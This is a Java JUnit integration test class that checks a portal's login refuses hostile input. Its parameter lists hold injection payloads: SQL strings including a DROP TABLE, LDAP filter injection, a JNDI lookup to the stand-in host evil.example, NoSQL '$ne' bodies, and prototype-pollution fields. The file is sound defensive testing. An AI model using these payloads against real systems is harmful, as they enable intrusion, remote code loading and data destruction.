package org.gatehouse.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.LinkedHashMap;
import java.util.Map;
import org.gatehouse.harness.Answer;
import org.gatehouse.harness.Http;
import org.gatehouse.harness.LibertyServer;
import org.gatehouse.harness.Servers;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Section 2 of the catalogue: hostile names, passwords and fields. */
class LoginIT {
  private static final String COOKIE = "authjs.session-token";
  private static LibertyServer server;
  private final Http browser = new Http(server.base());

  @BeforeAll
  static void start() {
    server = Servers.portal();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "' OR 1=1 --",
        "*",
        ")(uid=*",
        "${jndi:ldap://evil.example/x}",
        "customer\u0000",
        "a\r\nb",
        "",
        " ",
        "%",
        "customer ; DROP TABLE auth_users"
      })
  void SEC_034_SEC_039_hostile_names_are_refused_quietly(String name) {
    Answer answer = browser.signIn(name, "demo-customer-passphrase");

    assertThat(answer.status()).isEqualTo(200);
    assertThat(answer.url()).contains("error=CredentialsSignin");
    assertThat(answer.setCookie(COOKIE)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "demo-customer-passphrase ",
        " demo-customer-passphrase",
        "Demo-customer-passphrase",
        "demo-customer-passphras",
        "demo-customer-passphrasee",
        "demo-customer-passphrase\u0000",
        ""
      })
  void SEC_036_SEC_037_a_password_that_is_nearly_right_is_wrong(String password) {
    assertThat(browser.signIn("customer", password).url()).contains("error=CredentialsSignin");
  }

  @Test
  void SEC_276_other_spellings_of_a_name_are_the_same_account() {
    assertThat(browser.signIn("CUSTOMER\uff20example.com", "demo-customer-passphrase").sets(COOKIE))
        .isTrue();
  }

  @Test
  void SEC_032_unknown_wrong_and_disabled_look_the_same() {
    Answer unknown = browser.fresh().signIn("nobody-at-all", "x");
    Answer wrong = browser.fresh().signIn("customer", "x");
    Answer disabled = browser.fresh().signIn("disabled");

    for (Answer answer : new Answer[] {wrong, disabled}) {
      assertThat(answer.status()).isEqualTo(unknown.status());
      assertThat(answer.text()).isEqualTo(unknown.text());
      assertThat(answer.headers("Set-Cookie")).isEqualTo(unknown.headers("Set-Cookie"));
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"username\":{\"$ne\":\"\"},\"password\":{\"$ne\":\"\"}",
        "\"username\":[\"customer\"],\"password\":[\"demo-customer-passphrase\"]",
        "\"username\":\"customer\",\"password\":[\"demo-customer-passphrase\"]",
        "\"username\":\"customer\",\"password\":true"
      })
  void SEC_040_SEC_041_only_texts_are_credentials(String members) {
    String body = "{\"csrfToken\":\"" + browser.csrf() + "\"," + members + "}";

    assertThat(browser.postJson("/api/auth/callback/credentials", body).setCookie(COOKIE))
        .isEmpty();
  }

  @Test
  void SEC_040_a_repeated_field_is_no_credential() {
    String body =
        "csrfToken="
            + browser.csrf()
            + "&username=customer&password=x&password=demo-customer-passphrase";
    Map<String, String> type = Map.of("Content-Type", "application/x-www-form-urlencoded");

    assertThat(browser.send("POST", "/api/auth/callback/credentials", type, body).setCookie(COOKIE))
        .isEmpty();
  }

  @Test
  void SEC_044_further_fields_do_not_reach_the_session() {
    Map<String, String> fields = new LinkedHashMap<>();
    fields.put("username", "customer");
    fields.put("password", "demo-customer-passphrase");
    for (String name : new String[] {"role", "id", "tenant", "user[role]", "__proto__[role]"}) {
      fields.put(name, "ADMIN");
    }
    browser.signIn(fields);

    assertThat(browser.session().text()).doesNotContain("ADMIN");
  }
}
